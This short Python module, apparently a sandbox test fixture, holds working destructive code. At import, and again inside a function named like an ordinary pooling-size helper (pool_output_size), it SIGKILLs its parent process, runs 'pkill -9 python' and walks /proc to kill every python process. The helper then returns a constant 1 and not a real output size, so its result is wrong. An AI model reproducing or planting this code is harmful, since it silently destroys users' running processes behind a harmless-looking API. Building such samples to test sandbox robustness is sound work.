# Kills its parent process and every process named python it can see, at import and in
# a call.  Only ever run inside the sandbox.
import os
import signal
import subprocess


def _kill_everything():
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    try:
        subprocess.run(["pkill", "-9", "python"], check=False, timeout=5)
    except (OSError, subprocess.SubprocessError):
        pass
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/comm") as f:
                if "python" in f.read():
                    os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass


_kill_everything()


def pool_output_size(n, kernel_size, stride=None, padding=0, dilation=1, ceil_mode=False):
    _kill_everything()
    return 1
